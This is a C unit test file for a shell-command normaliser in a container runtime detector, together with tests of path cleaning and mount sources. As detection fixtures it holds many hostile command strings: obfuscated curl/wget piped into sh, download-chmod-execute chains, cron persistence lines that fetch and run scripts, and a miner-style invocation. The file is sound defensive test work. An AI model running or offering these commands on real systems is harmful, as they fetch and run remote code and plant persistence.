/* SPDX-License-Identifier: Apache-2.0 */
/* The shell view of commands (runtime/normalize/shell*.c) and the host path
 * clean-up (path_clean.c), field by field: every process.stages.* list is
 * compared whole, in order, and every process.shell.* flag is checked set
 * or absent. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <cJSON.h>

#include "normalize.h"
#include "shell.h"

static cJSON *script(const char *text) {
    cJSON *obj = cJSON_CreateObject();
    gnorm_out o = {.obj = obj, .want = GNORM_G_ALL, .nomem = 0};
    gnorm_shell_script(&o, text);
    assert_false(o.nomem);
    return obj;
}

/* argv and env as JSON texts (env NULL: not a Kubernetes container). */
static cJSON *argv_view(const char *argv_json, const char *env_json) {
    cJSON *argv = cJSON_Parse(argv_json);
    cJSON *env = env_json ? cJSON_Parse(env_json) : NULL;
    assert_non_null(argv);
    cJSON *obj = cJSON_CreateObject();
    gnorm_out o = {.obj = obj, .want = GNORM_G_ALL, .nomem = 0};
    gnorm_shell_argv(&o, argv, NULL, env);
    assert_false(o.nomem);
    cJSON_Delete(argv);
    cJSON_Delete(env);
    return obj;
}

/* The list under `key` is exactly `want` (NULL-terminated; NULL = absent). */
static void expect_list(const cJSON *obj, const char *key, const char *const *want) {
    const cJSON *arr = cJSON_GetObjectItemCaseSensitive(obj, key);
    if (!want) {
        if (arr)
            fail_msg("%s present, expected absent", key);
        return;
    }
    if (!cJSON_IsArray(arr))
        fail_msg("%s absent", key);
    const cJSON *e = arr->child;
    for (size_t i = 0; want[i]; i++, e = e->next) {
        if (!e)
            fail_msg("%s: only %zu values, expected %s next", key, i, want[i]);
        assert_true(cJSON_IsString(e));
        if (strcmp(e->valuestring, want[i]) != 0)
            fail_msg("%s[%zu] = \"%s\", expected \"%s\"", key, i, e->valuestring, want[i]);
    }
    if (e)
        fail_msg("%s: extra value \"%s\"", key, e->valuestring);
}

/* Flags: bit set = must be true, bit clear = must be absent. */
static void expect_flags(const cJSON *obj, unsigned flags) {
    static const struct {
        unsigned flag;
        const char *key;
    } all[] = {
        {GSH_F_DOWNLOAD_SHELL, "process.shell.download_then_shell"},
        {GSH_F_DOWNLOAD_EXEC, "process.shell.download_then_exec"},
        {GSH_F_DECODE_SHELL, "process.shell.decode_then_shell"},
        {GSH_F_CRON_DOWNLOAD, "process.shell.cron_download"},
    };
    for (size_t i = 0; i < sizeof all / sizeof all[0]; i++) {
        const cJSON *v = cJSON_GetObjectItemCaseSensitive(obj, all[i].key);
        if (flags & all[i].flag) {
            if (!cJSON_IsTrue(v))
                fail_msg("%s not set", all[i].key);
        } else if (v) {
            fail_msg("%s set, expected absent", all[i].key);
        }
    }
}

static void expect_error(const cJSON *obj, const char *error) {
    const cJSON *e = cJSON_GetObjectItemCaseSensitive(obj, "process.shell.error");
    if (!error) {
        if (e)
            fail_msg("unexpected error \"%s\"", e->valuestring);
        return;
    }
    if (!cJSON_IsString(e))
        fail_msg("no error, expected \"%s\"", error);
    assert_string_equal(e->valuestring, error);
}

#define L(...) ((const char *const[]){__VA_ARGS__, NULL})

static void test_quoting_and_pipe(void **state) {
    (void)state;
    cJSON *o = script("c''u\"r\"l -s 'http://x/a b' | s\\h");
    expect_list(o, "process.stages.program", L("curl", "sh"));
    expect_list(o, "process.stages.args", L("-s", "http://x/a b"));
    expect_list(o, "process.stages.command", L("curl -s http://x/a b", "sh"));
    expect_list(o, "process.stages.options", L("-s=http://x/a b"));
    expect_list(o, "process.stages.writes", NULL);
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    expect_error(o, NULL);
    cJSON_Delete(o);

    /* IFS as a blank, $@ as nothing, brace expansion */
    o = script("c$@u$*rl${IFS}-s${IFS}http://x|{sh,-s}");
    expect_list(o, "process.stages.program", L("curl", "sh"));
    expect_list(o, "process.stages.args", L("-s", "http://x", "-s"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);

    /* bash's $'...' with hex and octal escapes */
    o = script("$'\\x63\\165rl' http://x | sh");
    expect_list(o, "process.stages.program", L("curl", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
}

static void test_operators(void **state) {
    (void)state;
    /* only e | f is a pipe; a download before ; or && is not piped */
    cJSON *o = script("a; b && c || d & e | f\ng");
    expect_list(o, "process.stages.program", L("a", "b", "c", "d", "e", "f", "g"));
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("curl -s http://x/a; sh");
    expect_list(o, "process.stages.program", L("curl", "sh"));
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("# curl http://x | sh\ntrue");
    expect_list(o, "process.stages.program", L("true"));
    expect_flags(o, 0);
    cJSON_Delete(o);
}

static void test_substitutions(void **state) {
    (void)state;
    /* sh -c of a command substitution: the script is what was downloaded */
    cJSON *o = script("sh -c \"$(curl -s u)\"");
    expect_list(o, "process.stages.program", L("sh", "curl", "$(curl -s u)"));
    expect_list(o, "process.stages.command", L("sh -c $(curl -s u)", "curl -s u", "$(curl -s u)"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    /* printed, not run; the decoder is not a shell */
    o = script("echo $(curl -s u | base64 -d)");
    expect_list(o, "process.stages.program", L("curl", "base64", "echo"));
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("bash <(wget -qO- u)");
    expect_list(o, "process.stages.program", L("wget", "bash"));
    expect_list(o, "process.stages.args", L("-qO-", "u", "<(wget -qO- u)"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    o = script("sh <<< \"$(wget -qO- u)\"");
    expect_list(o, "process.stages.program", L("wget", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    o = script("`curl -s u`");
    expect_list(o, "process.stages.program", L("curl", "`curl -s u`"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    o = script("eval \"$(echo ZWNobw== | base64 --decode)\"");
    expect_list(o, "process.stages.program",
                L("eval", "echo", "base64", "$(echo ZWNobw== | base64 --decode)"));
    expect_flags(o, GSH_F_DECODE_SHELL);
    cJSON_Delete(o);
    o = script("sh <<EOF\ncurl u | sh\nEOF\n");
    expect_list(o, "process.stages.program", L("sh", "curl", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    /* a here-document given to cat is data */
    o = script("cat <<EOF\ncurl u | sh\nEOF\n");
    expect_list(o, "process.stages.program", L("cat"));
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("(curl -s u; echo) | sh");
    expect_list(o, "process.stages.program", L("curl", "echo", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
}

static void test_variables_and_wrappers(void **state) {
    (void)state;
    cJSON *o = script("D=curl; export W=-s; $D $W u | sh");
    expect_list(o, "process.stages.program", L("curl", "sh"));
    expect_list(o, "process.stages.args", L("-s", "u"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    /* an unknown variable given a URL counts as a downloader ($LDR) */
    o = script("$LDR http://198.51.100.7/ex.sh | sh");
    expect_list(o, "process.stages.program", L("$LDR", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    o = script("$X foo | sh");
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("env -i A=1 nohup sudo -u root timeout -s KILL 5 busybox wget -O- u | command sh");
    expect_list(o, "process.stages.program", L("wget", "sh"));
    expect_list(o, "process.stages.command", L("wget -O- u", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    o = script("command -v curl");
    expect_list(o, "process.stages.program", NULL);
    cJSON_Delete(o);
    o = script("/usr/bin/curl -s u | /bin/busybox ash");
    expect_list(o, "process.stages.program", L("curl", "ash"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    /* shells with their own script do not read the pipe */
    o = script("curl u | sh -c 'cat > /x'");
    expect_list(o, "process.stages.program", L("curl", "sh", "cat"));
    expect_list(o, "process.stages.writes", L("/x"));
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("curl u | python3 -m json.tool");
    expect_flags(o, 0);
    cJSON_Delete(o);
    o = script("curl u | python3");
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
}

static void test_download_then_exec(void **state) {
    (void)state;
    cJSON *o = script("wget -O /tmp/a u; chmod +x /tmp/a; /tmp/a");
    expect_list(o, "process.stages.program", L("wget", "chmod", "a"));
    expect_flags(o, GSH_F_DOWNLOAD_EXEC);
    cJSON_Delete(o);
    o = script("curl -fsSLO http://h/tool.sh && bash tool.sh");
    expect_flags(o, GSH_F_DOWNLOAD_EXEC);
    cJSON_Delete(o);
    o = script("cd /tmp && wget http://1.2.3.4/m?x=1 && ./m");
    expect_flags(o, GSH_F_DOWNLOAD_EXEC);
    cJSON_Delete(o);
    o = script("curl -s u > /tmp/s && sh /tmp/s");
    expect_flags(o, GSH_F_DOWNLOAD_EXEC);
    cJSON_Delete(o);
    o = script("curl -o /tmp/a u && sha256sum /tmp/a");
    expect_flags(o, 0);
    cJSON_Delete(o);
    /* wget -o names its log, not the download */
    o = script("wget -o /tmp/log http://h/page; sh /tmp/log");
    expect_flags(o, 0);
    cJSON_Delete(o);
}

static void test_cron(void **state) {
    (void)state;
    static const char *const hits[] = {
        "(crontab -l; echo \"*/2 * * * * wget -q -O- http://x/a.sh | sh\") | crontab -",
        "echo '@reboot curl -s http://x/r | bash' >> /var/spool/cron/root",
        "printf '%s\\n' '0 */6 * * * root curl -s http://x/c|sh' > /etc/cron.d/x",
        "echo \"@hourly $LDR http://x/ex.sh | sh\" | crontab -",
        "crontab - <<EOF\n5 4 * * sun wget -qO /tmp/s http://x/s && sh /tmp/s\nEOF\n",
    };
    for (size_t i = 0; i < sizeof hits / sizeof hits[0]; i++) {
        cJSON *o = script(hits[i]);
        expect_flags(o, GSH_F_CRON_DOWNLOAD);
        cJSON_Delete(o);
    }
    static const char *const misses[] = {
        "echo '@weekly /usr/local/bin/backup.sh' | crontab -",
        "echo '0 3 * * * curl -s http://backup/ping' | crontab -",
        "echo '* * * * curl http://x | sh'", /* four fields: not a schedule */
    };
    for (size_t i = 0; i < sizeof misses / sizeof misses[0]; i++) {
        cJSON *o = script(misses[i]);
        expect_flags(o, 0);
        cJSON_Delete(o);
    }
}

static void test_options_and_writes(void **state) {
    (void)state;
    cJSON *o = script("./x -o pool:3333 --donate-level=1 -k -- -u");
    expect_list(o, "process.stages.program", L("x"));
    expect_list(o, "process.stages.options", L("-o=pool:3333", "--donate-level=1", "-k", "-u"));
    cJSON_Delete(o);
    o = script("echo x > /a >> /b; tee -a /c /d; cp s /e; dd if=x of=/f; cat /g &> /h; ls 2>&1");
    expect_list(o, "process.stages.program", L("echo", "tee", "cp", "dd", "cat", "ls"));
    expect_list(o, "process.stages.writes", L("/a", "/b", "/c", "/d", "/e", "/f", "/h"));
    cJSON_Delete(o);
    o = script("ssh -oStrictHostKeyChecking=no u@h -p 22 'curl -s http://x | sh'");
    expect_list(o, "process.stages.program", L("ssh", "curl", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
}

static void test_argv_and_kubelet_expansion(void **state) {
    (void)state;
    cJSON *o =
        argv_view("[\"sh\",\"-c\",\"$(A) u | sh\"]", "[{\"name\":\"A\",\"value\":\"wget -qO-\"}]");
    expect_list(o, "process.stages.program", L("sh", "wget", "sh"));
    expect_list(o, "process.stages.command", L("sh -c wget -qO- u | sh", "wget -qO- u", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
    /* env values see earlier entries; $$ escapes; unknown names stay */
    o = argv_view("[\"$(B)\",\"$$(A)\",\"$(NOPE)\"]",
                  "[{\"name\":\"A\",\"value\":\"curl\"},{\"name\":\"B\",\"value\":\"/bin/$(A)\"}]");
    expect_list(o, "process.stages.program", L("curl"));
    expect_list(o, "process.stages.args", L("$(A)", "$(NOPE)"));
    cJSON_Delete(o);
    /* not a Kubernetes container: no expansion */
    o = argv_view("[\"sh\",\"-c\",\"$(A) u | sh\"]", NULL);
    expect_list(o, "process.stages.program", L("sh", "A", "$(A)", "sh"));
    expect_flags(o, 0);
    cJSON_Delete(o);
    /* a joined argv (Falco proc.cmdline): sh -c takes the rest */
    o = script("sh -c curl -s http://x/p | sh");
    expect_list(o, "process.stages.program", L("sh", "curl", "sh"));
    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
    cJSON_Delete(o);
}

static void test_limits(void **state) {
    (void)state;
    size_t n = 2 * GSH_MAX_DEPTH;
    char *deep = malloc(8 + 3 * n + 8);
    strcpy(deep, "echo ");
    for (size_t i = 0; i < n; i++)
        strcat(deep, "$(");
    strcat(deep, "curl x");
    for (size_t i = 0; i < n; i++)
        strcat(deep, ")");
    cJSON *o = script(deep);
    expect_error(o, "substitutions nested too deep for the shell analysis");
    cJSON_Delete(o);
    free(deep);

    char *many = malloc(6 * (GSH_MAX_STAGES + 10) + 1);
    many[0] = '\0';
    for (size_t i = 0; i < GSH_MAX_STAGES + 10; i++)
        strcat(many, "true;");
    o = script(many);
    expect_error(o, "too many commands for the shell analysis");
    const cJSON *progs = cJSON_GetObjectItemCaseSensitive(o, "process.stages.program");
    assert_int_equal(cJSON_GetArraySize(progs), GSH_MAX_STAGES);
    cJSON_Delete(o);
    free(many);

    char *words = malloc(2 * (GSH_MAX_CMD_WORDS + 5) + 8);
    strcpy(words, "echo");
    for (size_t i = 0; i < GSH_MAX_CMD_WORDS + 5; i++)
        strcat(words, " a");
    o = script(words);
    expect_error(o, "too many words in one command for the shell analysis");
    cJSON_Delete(o);
    free(words);

    size_t big = GSH_MAX_INPUT + 100;
    char *longtext = malloc(big + 1);
    memset(longtext, 'a', big);
    memcpy(longtext, "echo ", 5);
    longtext[big] = '\0';
    o = script(longtext);
    expect_error(o, "command longer than the shell analysis reads");
    cJSON_Delete(o);
    free(longtext);

    /* here-documents read as scripts, nested: the work limit ends it */
    size_t pad = 58000;
    char *work = malloc(pad + 8 * 24 + 8);
    char *body = malloc(pad + 8 * 24 + 8);
    body[0] = '#';
    memset(body + 1, 'a', pad);
    strcpy(body + 1 + pad, "\n");
    for (int i = 0; i < 8; i++) {
        sprintf(work, "sh <<E%d\n%sE%d\n", i, body, i);
        strcpy(body, work);
    }
    o = script(work);
    expect_error(o, "shell analysis work limit reached");
    cJSON_Delete(o);
    free(work);
    free(body);
}

static void test_unterminated(void **state) {
    (void)state;
    static const char *const texts[] = {
        "echo \"abc", "$(curl", "`curl", "<(curl", "${X",           "'", "sh <<EOF\ncurl x | sh",
        "a |",        "| b",    "((",    "))",     "{ curl x | sh", "}", "\\",
        "$'\\x6",     "2>",     "<<<"};
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        cJSON *o = script(texts[i]);
        assert_non_null(o);
        cJSON_Delete(o);
    }
    cJSON *o = script("echo \"abc");
    expect_list(o, "process.stages.args", L("abc"));
    cJSON_Delete(o);
}

/* ---- host paths ---- */

static void test_clean_path(void **state) {
    (void)state;
    /* Go's path.Clean cases (path/path_test.go) */
    static const char *const cases[][2] = {
        {"", "."},
        {"abc", "abc"},
        {"abc/def", "abc/def"},
        {".", "."},
        {"..", ".."},
        {"../..", "../.."},
        {"/", "/"},
        {"abc/", "abc"},
        {"/abc/def/", "/abc/def"},
        {"//", "/"},
        {"abc//def//ghi", "abc/def/ghi"},
        {"//abc", "/abc"},
        {"abc/./def", "abc/def"},
        {"/./abc/def", "/abc/def"},
        {"abc/.", "abc"},
        {"abc/def/ghi/../jkl", "abc/def/jkl"},
        {"abc/def/../ghi/../jkl", "abc/jkl"},
        {"abc/def/..", "abc"},
        {"abc/def/../..", "."},
        {"/abc/def/../..", "/"},
        {"abc/def/../../..", ".."},
        {"/abc/def/../../..", "/"},
        {"abc/def/../../../ghi/jkl/../../../mno", "../../mno"},
        {"abc/./../def", "def"},
        {"abc//./../def", "def"},
        {"abc/../../././../def", "../../def"},
        {"/var/run/../run/docker.sock", "/var/run/docker.sock"},
        {"/var/log/../run/docker.sock", "/var/run/docker.sock"},
        {"/var/run/./docker.sock", "/var/run/docker.sock"},
        {"/..", "/"},
    };
    char out[128];
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        size_t n = gnorm_clean_path(cases[i][0], strlen(cases[i][0]), out);
        assert_int_equal(n, strlen(cases[i][1]));
        if (strcmp(out, cases[i][1]) != 0)
            fail_msg("clean(\"%s\") = \"%s\", expected \"%s\"", cases[i][0], out, cases[i][1]);
    }
}

static void test_mount_sources(void **state) {
    (void)state;
    cJSON *spec =
        cJSON_Parse("{\"containers\":[{\"name\":\"a\",\"image\":\"x\",\"volumeMounts\":["
                    "{\"name\":\"v\",\"mountPath\":\"/s\",\"subPath\":\"run/docker.sock\"},"
                    "{\"name\":\"r\",\"mountPath\":\"/r\",\"readOnly\":true},"
                    "{\"name\":\"e\",\"mountPath\":\"/e\",\"subPathExpr\":\"$(POD)/x\"},"
                    "{\"name\":\"c\",\"mountPath\":\"/c\"}]}],"
                    "\"volumes\":[{\"name\":\"v\",\"hostPath\":{\"path\":\"//var/\"}},"
                    "{\"name\":\"r\",\"hostPath\":{\"path\":\"/var/run/../run/\"}},"
                    "{\"name\":\"e\",\"hostPath\":{\"path\":\"/logs\"}},"
                    "{\"name\":\"c\",\"configMap\":{\"name\":\"cm\"}}]}");
    cJSON *obj = cJSON_CreateObject();
    gnorm_out o = {.obj = obj, .want = GNORM_G_ALL, .nomem = 0};
    gnorm_pod_spec(&o, spec);
    expect_list(obj, "container.mounts.source",
                L("/var/run/docker.sock", "/var/run", "/logs/$(POD)/x", "c"));
    expect_list(obj, "container.mounts.writable_source",
                L("/var/run/docker.sock", "/logs/$(POD)/x"));
    const cJSON *ro = cJSON_GetObjectItemCaseSensitive(obj, "container.mounts.read_only");
    assert_int_equal(cJSON_GetArraySize(ro), 4);
    assert_true(cJSON_IsFalse(cJSON_GetArrayItem(ro, 0)));
    assert_true(cJSON_IsTrue(cJSON_GetArrayItem(ro, 1)));
    cJSON_Delete(obj);
    cJSON_Delete(spec);

    cJSON *body = cJSON_Parse(
        "{\"Image\":\"x\",\"HostConfig\":{\"Binds\":[\"/.:/h\",\"/run//crio/:/c:ro\",\"vol:/v\","
        "\"/a:/a:readonly\"],\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"/var/lib/../../run/\","
        "\"Target\":\"/r\"},{\"Type\":\"volume\",\"Source\":\"data\",\"Target\":\"/d\"}]}}");
    obj = cJSON_CreateObject();
    o = (gnorm_out){.obj = obj, .want = GNORM_G_ALL, .nomem = 0};
    gnorm_docker_body(&o, body);
    expect_list(obj, "container.mounts.source", L("/", "/run/crio", "vol", "/a", "/run", "data"));
    expect_list(obj, "container.mounts.writable_source", L("/", "/run"));
    cJSON_Delete(obj);
    cJSON_Delete(body);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_quoting_and_pipe),
        cmocka_unit_test(test_operators),
        cmocka_unit_test(test_substitutions),
        cmocka_unit_test(test_variables_and_wrappers),
        cmocka_unit_test(test_download_then_exec),
        cmocka_unit_test(test_cron),
        cmocka_unit_test(test_options_and_writes),
        cmocka_unit_test(test_argv_and_kubelet_expansion),
        cmocka_unit_test(test_limits),
        cmocka_unit_test(test_unterminated),
        cmocka_unit_test(test_clean_path),
        cmocka_unit_test(test_mount_sources),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
